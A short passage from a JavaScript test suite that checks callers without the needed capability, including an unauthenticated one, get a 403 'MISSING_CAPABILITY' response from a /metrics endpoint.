      const res = await call(who, 'GET', '/metrics');
      expect([res.status, errorCode(res)], who).toEqual([403, 'MISSING_CAPABILITY']);
    }
    expect((await call(undefined, 'GET', '/metrics')).status).toBe(403);
  });
});
